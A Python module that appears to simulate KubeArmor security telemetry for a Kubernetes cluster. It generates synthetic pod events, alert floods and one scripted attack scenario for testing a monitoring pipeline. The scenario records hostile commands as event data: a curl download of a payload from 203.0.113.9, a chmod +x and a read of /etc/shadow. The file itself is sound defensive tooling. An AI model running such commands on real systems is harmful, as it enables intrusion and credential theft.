"""Generates, from a seed, an endless stream of events in which as much is new as in a busy cluster.

Every event has its own PIDs, and its own path, arguments or peer; pods, images and labels repeat as in a cluster.
"""

# ruff: noqa: E501 - a row of a table is one line

from __future__ import annotations

import itertools
import random
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

from otelbridge.event import Stream
from otelbridge.pb import kubearmor_pb2
from otelbridge.simulator.events import KubeArmorMessage

NODES = 20
PODS = 200


class Workload(NamedTuple):
    """What a team deploys."""

    name: str
    kind: str
    namespace: str
    container: str
    image: str
    process: str
    """Path of the container's main process."""
    folders: tuple[str, ...]
    """Where it reads and writes files."""


class Node(NamedTuple):
    """A machine of the cluster."""

    name: str
    node_id: str


class Pod(NamedTuple):
    """One instance of a workload, on a node."""

    workload: Workload
    node: Node
    name: str
    labels: str
    container_id: str
    image: str
    """With its digest."""
    main_host_pid: int


WORKLOADS = tuple(
    Workload(*row[:6], tuple(row[6].split()))
    for row in (
        ("frontend", "Deployment", "shop", "web", "docker.io/library/nginx:1.27.1", "/usr/sbin/nginx", "/etc/nginx /var/cache/nginx /usr/share/nginx/html"),
        ("checkout", "Deployment", "shop", "checkout", "ghcr.io/shop/checkout:4.2.0", "/app/checkout", "/app/config /tmp /var/run/secrets/kubernetes.io/serviceaccount"),
        ("orders-db", "StatefulSet", "shop", "postgres", "docker.io/library/postgres:16.4", "/usr/lib/postgresql/16/bin/postgres", "/var/lib/postgresql/data/base /var/lib/postgresql/data/pg_wal"),
        ("cart-cache", "StatefulSet", "shop", "redis", "docker.io/library/redis:7.4", "/usr/local/bin/redis-server", "/data /etc/redis"),
        ("payments", "Deployment", "payments", "api", "registry.corp.example:5000/payments/api:2024.11", "/usr/bin/java", "/opt/payments/lib /opt/payments/conf /tmp/hsperfdata_app"),
        ("ledger", "Deployment", "payments", "ledger", "registry.corp.example:5000/payments/ledger:2024.11", "/usr/local/bin/python3.12", "/srv/ledger /usr/local/lib/python3.12/site-packages"),
        ("wordpress", "Deployment", "wordpress-mysql", "wordpress", "docker.io/library/wordpress:6.6-apache", "/usr/sbin/apache2", "/var/www/html/wp-content /var/www/html/wp-includes /etc/apache2"),
        ("mysql", "StatefulSet", "wordpress-mysql", "mysql", "docker.io/library/mysql:8.4", "/usr/sbin/mysqld", "/var/lib/mysql /etc/mysql"),
        ("log-shipper", "DaemonSet", "observability", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.1.7", "/fluent-bit/bin/fluent-bit", "/var/log/containers /fluent-bit/etc"),
        ("nightly-report", "CronJob", "batch", "report", "ghcr.io/corp/report:1.9", "/usr/bin/node", "/srv/report /srv/report/node_modules /tmp"),
    )
)  # fmt: skip


def invent_pods(seed: int, *, nodes: int = NODES, pods: int = PODS) -> tuple[Pod, ...]:
    """The same cluster for the same seed."""
    chance = random.Random(seed)  # noqa: S311 - made up, not secret
    machines = [Node(f"node-{number:02}", _hex(chance, 32)) for number in range(1, nodes + 1)]
    digests = {workload: _hex(chance, 64) for workload in WORKLOADS}
    return tuple(
        _pod(chance, WORKLOADS[number % len(WORKLOADS)], machines[number % nodes], number, digests)
        for number in range(pods)
    )


def _pod(chance: random.Random, workload: Workload, node: Node, number: int, digests: dict[Workload, str]) -> Pod:
    ordinal = number // len(WORKLOADS)
    suffix = f"{ordinal}" if workload.kind == "StatefulSet" else f"{_hex(chance, 9)}-{_hex(chance, 5)}"
    return Pod(
        workload=workload,
        node=node,
        name=f"{workload.name}-{suffix}",
        labels=f"app={workload.name},app.kubernetes.io/part-of={workload.namespace},release=r{ordinal % 3}",
        container_id=_hex(chance, 64),
        image=f"{workload.image}@sha256:{digests[workload]}",
        main_host_pid=chance.randrange(2_000, 4_000_000),
    )


def _hex(chance: random.Random, digits: int) -> str:
    return f"{chance.getrandbits(4 * digits):0{digits}x}"


Observed = kubearmor_pb2.Alert | kubearmor_pb2.Log
Act = Callable[[random.Random, int, Pod, Observed], None]

SHELL_COMMANDS = ("/bin/sh -c", "/usr/bin/curl -sS", "/usr/bin/find", "/bin/cat", "/usr/bin/psql -c", "/bin/tar czf")
OPEN_FLAGS = ("O_RDONLY", "O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC", "O_RDWR|O_CREAT|O_CLOEXEC")
DOMAINS = ("svc.cluster.local", "amazonaws.com", "example.net", "corp.example")
POLICIES = (
    ("ksp-block-pkg-mgmt-tools-exec", "MITRE,MITRE_T1553_Subvert_Trust_Controls,PCI_DSS", "5"),
    ("ksp-block-service-account-token", "MITRE,MITRE_T1552_Unsecured_Credentials", "7"),
    ("ksp-audit-write-under-etc", "NIST,NIST_800-53_CM-7(4)", "3"),
    ("DefaultPosture", "", ""),
)
WEIGHTS: Mapping[Stream, int] = {Stream.ALERTS: 6, Stream.LOGS: 93, Stream.MESSAGES: 1}
"""Of a hundred events, as visibility logs outnumber alerts where all visibility is on."""


def generate(
    seed: int, *, streams: tuple[Stream, ...] = (Stream.ALERTS, Stream.LOGS), nodes: int = NODES, pods: int = PODS
) -> Iterator[tuple[Stream, KubeArmorMessage]]:
    """Endless events of the given streams; the same for the same arguments. Their times are not set."""
    chance = random.Random(seed)  # noqa: S311 - made up, not secret
    cluster = invent_pods(seed, nodes=nodes, pods=pods)
    weights = tuple(itertools.accumulate(WEIGHTS[stream] for stream in streams))
    for number in itertools.count():
        stream = chance.choices(streams, cum_weights=weights)[0]
        yield stream, MAKERS[stream](chance, number, cluster[chance.randrange(pods)])


def _log(chance: random.Random, number: int, pod: Pod) -> kubearmor_pb2.Log:
    log = kubearmor_pb2.Log(Type="ContainerLog", Result="Passed", Cwd="/")
    _describe(log, chance, number, pod)
    chance.choices((_execute, _open, _connect, _resolve), cum_weights=(25, 70, 90, 100))[0](chance, number, pod, log)
    return log


RARE_EVERY = 500
"""Of so many events of a flood one is rare."""


def flood(seed: int, kinds: int = 1, *, rare_every: int = RARE_EVERY) -> Iterator[tuple[Stream, KubeArmorMessage]]:
    """Endless alerts of so many kinds over and over, with alerts of policies of their own (`rare-1`, ...) strewn in."""
    chance = random.Random(seed)  # noqa: S311 - made up, not secret
    pods = invent_pods(seed)
    for number in itertools.count(1):
        rare, kind = number % rare_every == 0, number % kinds
        policy = f"rare-{number // rare_every}" if rare else f"flood-{kind}"
        alert = _violation((policy, "", "5"), blocked=True)
        pod = pods[kind % len(WORKLOADS)]
        _describe(alert, chance, number, pod)
        _execute(chance, number, pod, alert)
        yield Stream.ALERTS, alert


def _alert(chance: random.Random, number: int, pod: Pod) -> kubearmor_pb2.Alert:
    policy, blocked = chance.choice(POLICIES), chance.random() < 1 / 2
    alert = _violation(policy, blocked=blocked)
    _describe(alert, chance, number, pod)
    chance.choice((_execute, _open, _connect))(chance, number, pod, alert)
    return alert


def _violation(of: tuple[str, str, str], *, blocked: bool) -> kubearmor_pb2.Alert:
    policy, tags, severity = of
    return kubearmor_pb2.Alert(
        Type="MatchedPolicy",
        PolicyName=policy,
        Severity=severity,
        Tags=tags,
        ATags=tags.split(",") if tags else (),
        Message="" if policy == "DefaultPosture" else f"Alert! {policy} was violated",
        Enforcer="BPFLSM" if blocked else "eBPF Monitor",
        Action="Block" if blocked else "Audit",
        Result="Permission denied" if blocked else "Passed",
        Cwd="/",
        KubeArmorVersion="v1.7.4",
    )


def _message(chance: random.Random, number: int, pod: Pod) -> kubearmor_pb2.Message:
    return kubearmor_pb2.Message(
        ClusterName="default",
        HostName=pod.node.name,
        HostIP=f"10.0.{number >> 8 & 255}.{number & 255}",
        Type="Message",
        Level=chance.choice(("DEBUG", "INFO", "WARN", "ERROR")),
        Message=f"Detected a container (added/{pod.container_id[:12]}/pidns={chance.getrandbits(32)})",
    )


MAKERS: Mapping[Stream, Callable[[random.Random, int, Pod], KubeArmorMessage]] = {
    Stream.ALERTS: _alert,
    Stream.LOGS: _log,
    Stream.MESSAGES: _message,
}


def _place(event: Observed, pod: Pod) -> None:
    """Says where it happened."""
    workload = pod.workload
    event.ClusterName, event.HostName, event.NodeID = "default", pod.node.name, pod.node.node_id
    event.NamespaceName, event.PodName, event.Labels = workload.namespace, pod.name, pod.labels
    event.ContainerID, event.ContainerName, event.ContainerImage = pod.container_id, workload.container, pod.image
    event.Owner.Ref, event.Owner.Name, event.Owner.Namespace = workload.kind, workload.name, workload.namespace


def _describe(event: Observed, chance: random.Random, number: int, pod: Pod) -> None:
    """Says where it happened and which process did it."""
    _place(event, pod)
    event.HostPPID = pod.main_host_pid
    event.HostPID = 4_194_304 + number % 2_000_000_000  # above the kernel's largest PID: no two events share one
    event.PPID = 1
    event.PID = 2 + number % 4_194_302
    event.UID = chance.choice((0, 33, 101, 999, 1000))
    event.ParentProcessName = event.ProcessName = pod.workload.process
    event.ExecEvent.ExecID = "0"
    event.ExecEvent.ExecutableName = event.ProcessName.rpartition("/")[2][:15]


def _execute(chance: random.Random, number: int, pod: Pod, event: Observed) -> None:
    command = chance.choice(SHELL_COMMANDS)
    event.Operation = "Process"
    event.Source = pod.workload.process
    event.ProcessName = command.partition(" ")[0]
    event.Resource = f"{command} {chance.choice(pod.workload.folders)}/job-{number} --id={chance.getrandbits(32):08x}"
    event.Data = "syscall=SYS_EXECVE"
    event.EventData["Syscall"] = "SYS_EXECVE"


def _open(chance: random.Random, number: int, pod: Pod, event: Observed) -> None:
    flags = chance.choice(OPEN_FLAGS)
    event.Operation = "File"
    event.Source = f"{pod.workload.process} --worker {number % 64}"
    event.Resource = f"{chance.choice(pod.workload.folders)}/{chance.getrandbits(40):010x}/{number}.dat"
    event.Data = f"syscall=SYS_OPENAT fd=-100 flags={flags}"
    for key, value in (("Syscall", "SYS_OPENAT"), ("Fd", "-100"), ("Flags", flags)):
        event.EventData[key] = value


def _connect(chance: random.Random, number: int, pod: Pod, event: Observed) -> None:
    peer = f"10.{chance.randrange(40, 44)}.{number >> 8 & 255}.{number & 255}"
    port = str(chance.choice((53, 80, 443, 5432, 6379, 8080)))
    event.Operation = "Network"
    event.Source = pod.workload.process
    event.Resource = f"remoteip={peer} port={port} protocol=TCP"
    event.Data = "kprobe=tcp_connect domain=AF_INET"
    pairs = ("Kprobe", "tcp_connect"), ("Domain", "AF_INET"), ("Remoteip", peer), ("Port", port), ("Protocol", "TCP")
    for key, value in pairs:
        event.EventData[key] = value


def _resolve(chance: random.Random, number: int, pod: Pod, event: Observed) -> None:
    domain = f"host-{number}.{chance.choice(DOMAINS)}"
    event.Operation = "Network"
    event.Source = pod.workload.process
    event.Resource = "sa_family=AF_INET sin_port=53"
    event.Data = f"kfunc=UDP_SENDSKB domain={domain} daddr=10.43.0.10 qtype=A"
    event.EventData["Kfunc"] = "UDP_SENDSKB"
    event.EventData["Domain"] = domain


RUNC = "/usr/bin/runc"
SHELL = "/bin/sh"
DENIED = "Permission denied"
ATTACK_POLICY = "ksp-block-tmp-exec"
ATTACK_FIRST_PID = 4_000


class AttackStep(NamedTuple):
    """One event of the attack."""

    process: int
    """In the order in which they begin; the first is the shell."""
    parent: int
    operation: str
    executable: str
    resource: str
    data: str
    result: str = "Passed"


ATTACK = (
    AttackStep(1, 0, "Process", SHELL, "/bin/sh", "syscall=SYS_EXECVE"),
    AttackStep(2, 1, "Process", "/usr/bin/id", "/usr/bin/id", "syscall=SYS_EXECVE"),
    AttackStep(3, 1, "Process", "/usr/bin/curl", "/usr/bin/curl -sSo /run/payload http://203.0.113.9/p", "syscall=SYS_EXECVE"),
    AttackStep(3, 1, "Network", "/usr/bin/curl", "remoteip=203.0.113.9 port=80 protocol=TCP", "kprobe=tcp_connect domain=AF_INET"),
    AttackStep(3, 1, "File", "/usr/bin/curl", "/run/payload", "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC"),
    AttackStep(4, 1, "Process", "/bin/chmod", "/bin/chmod +x /run/payload", "syscall=SYS_EXECVE"),
    AttackStep(5, 1, "Process", "/run/payload", "/run/payload", "lsm=SECURITY_BPRM_CHECK", DENIED),
    AttackStep(6, 1, "Process", "/bin/cat", "/bin/cat /etc/shadow", "syscall=SYS_EXECVE"),
    AttackStep(6, 1, "File", "/bin/cat", "/etc/shadow", "lsm=FILE_OPEN", DENIED),
)  # fmt: skip


def attack(seed: int, streams: tuple[Stream, ...]) -> Iterator[tuple[Stream, KubeArmorMessage]]:
    """An attack by way of an exec session: a shell, a download, a payload that is denied.

    The events of the given streams, in their order; what is denied is an alert. Their times are not set.
    """
    pod = invent_pods(seed)[0]
    first_pid = ATTACK_FIRST_PID + seed % 1_000_000
    session = seed & 0xFFFF or 1
    for step in ATTACK:
        stream = Stream.ALERTS if step.result == DENIED else Stream.LOGS
        if stream in streams:
            yield stream, _attack_event(step, pod, first_pid, session)


def _attack_event(step: AttackStep, pod: Pod, first_pid: int, session: int) -> Observed:
    event: Observed
    if step.result == DENIED:
        event = kubearmor_pb2.Alert(
            Type="MatchedPolicy", PolicyName=ATTACK_POLICY, Severity="8", Action="Block", Enforcer="BPFLSM"
        )
    else:
        event = kubearmor_pb2.Log(Type="ContainerLog")
    _place(event, pod)
    event.HostPID, event.PID = first_pid + step.process, 100 + step.process
    event.HostPPID, event.PPID = first_pid + step.parent, 100 + step.parent if step.parent else first_pid
    event.ProcessName = step.executable
    event.ParentProcessName = SHELL if step.parent else RUNC
    is_exec = step.operation == "Process"
    event.Source = event.ParentProcessName if is_exec else step.executable
    event.Operation, event.Resource, event.Data, event.Result = step.operation, step.resource, step.data, step.result
    # The shell has the session's own id; what it forks keeps the low half of it.
    event.ExecEvent.ExecID = str((event.HostPID if step.parent else 77) << 32 | session)
    task = event.ParentProcessName if is_exec else step.executable
    event.ExecEvent.ExecutableName = task.rpartition("/")[2]
    return event
